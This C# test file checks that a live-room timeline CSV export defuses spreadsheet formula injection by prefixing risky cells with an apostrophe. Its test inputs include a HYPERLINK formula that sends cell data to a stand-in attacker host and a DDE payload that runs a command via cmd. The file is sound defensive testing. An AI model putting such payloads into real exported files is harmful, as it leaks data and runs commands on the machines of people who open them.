using System.Globalization;
using System.Text;
using CsvHelper;
using LiveRoom.Domain.Timeline;
using LiveRoom.Web.Timeline;

namespace LiveRoom.Web.Tests.Timeline;

/// <summary>Cells that a spreadsheet would run as formulas are defused; the file stays RFC 4180.</summary>
public sealed class TimelineCsvInjectionTests
{
    private static async IAsyncEnumerable<TimelineEntry> Entries(params TimelineEntry[] entries)
    {
        foreach (var e in entries)
        {
            await Task.Yield();
            yield return e;
        }
    }

    private static async Task<string> CsvOf(params TimelineEntry[] entries)
    {
        using var body = new MemoryStream();
        await TimelineExport.WriteCsvAsync(body, Entries(entries), CancellationToken.None);
        return Encoding.UTF8.GetString(body.ToArray()).TrimStart('\uFEFF');
    }

    private static List<IDictionary<string, object>> Parse(string text)
    {
        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        return csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task A_cell_starting_with_a_formula_character_gets_a_leading_apostrophe(string hostile)
    {
        var text = await CsvOf(new TimelineEntry { Actor = hostile, Action = "note", Summary = hostile, GroupIds = [hostile], RefId = hostile });

        var row = Assert.Single(Parse(text));
        foreach (var column in new[] { "actor", "summary", "groupIds", "refId" })
            Assert.Equal("'" + hostile, row[column]);
    }

    [Fact]
    public async Task A_group_name_with_a_hyperlink_formula_is_quoted_and_escaped_in_the_raw_file()
    {
        var text = await CsvOf(new TimelineEntry { Action = "groups.registered", Summary = "=HYPERLINK(\"http://evil\",\"x\")", GroupIds = ["g1"] });

        // Quotes inside the cell are doubled and the cell is quoted, so the apostrophe is its first character.
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\",", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Ordinary_text_commas_quotes_and_newlines_round_trip_unchanged()
    {
        var summary = "提示, \"加油\" = 冲\n第二行";
        var text = await CsvOf(new TimelineEntry { Actor = "operator", Action = "cue.issued", Summary = summary, GroupIds = ["g1", "g2"] });

        var row = Assert.Single(Parse(text));
        Assert.Equal(summary, row["summary"]);
        Assert.Equal("operator", row["actor"]);
        Assert.Equal("g1;g2", row["groupIds"]);
        Assert.Equal("0", row["sequence"]);
    }
}
